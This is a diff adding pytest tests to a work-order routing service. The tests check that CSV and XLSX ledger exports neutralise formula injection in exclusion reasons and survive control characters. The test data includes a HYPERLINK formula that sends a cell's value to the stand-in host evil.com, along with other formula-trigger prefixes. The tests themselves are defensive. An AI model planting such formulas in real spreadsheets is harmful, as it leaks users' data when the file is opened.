@@ -160,3 +160,48 @@ def test_the_ledger_is_bounded_by_a_row_limit_and_says_when_it_cut(h):
     assert r.headers["x-ledger-truncated"] == "false"
     r = h.client.get("/routing/v1/ledger", params={"limit": 10**9}, headers=headers)
     assert r.status_code == 422 and r.json()["error"]["field"] == "limit"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A2,"点此查看")', "+1+2", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_ledger_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text(h, fmt):
+    """Review of issue 11, finding 9: an exclusion reason `=HYPERLINK(...)` was exported verbatim
+    (and the XLSX stored it as a live formula)."""
+    for reason in FORMULAS:
+        oid = h.lead(h.submit())["id"]
+        assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": reason}).status_code == 200
+    r = h.client.get("/routing/v1/ledger", params={"format": fmt}, headers=h.headers("supervisor"))
+    assert r.status_code == 200
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        # (XML reads a carriage return back as a line feed)
+        rows = [[v.replace("\n", "\r") if isinstance(v, str) else v for v in row] for row in sheet.values]
+    column = rows[0].index("不计入原因")
+    assert sorted(row[column] for row in rows[1:]) == sorted("'" + reason for reason in FORMULAS)
+
+
+def test_a_spreadsheet_cell_is_neutralised_only_when_it_would_start_a_formula():
+    from services.routing.spreadsheet import cell
+
+    for value in FORMULAS:
+        assert cell(value) == "'" + value
+    for value in ("诉求不合理", "2026-10-12 11:00", "510107001001001", "a=b", "1+1", "", None, 3, True):
+        assert cell(value) == value
+    # Characters an XLSX cannot hold are dropped, so they neither break the export nor hide a formula.
+    assert cell("\x0b=1+1") == "'=1+1" and cell("ok\x01") == "ok"
+
+
+def test_a_control_character_typed_into_a_reason_does_not_break_the_xlsx_ledger(h):
+    """An XLSX cannot hold most control characters: the export answered 500 for one in a reason."""
+    oid = h.lead(h.submit())["id"]
+    assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": "重复\x0b诉求"}).status_code == 200
+    r = h.client.get("/routing/v1/ledger", params={"format": "xlsx"}, headers=h.headers("supervisor"))
+    assert r.status_code == 200
+    values = list(openpyxl.load_workbook(io.BytesIO(r.content)).active.values)
+    assert values[1][values[0].index("不计入原因")] == "重复诉求"
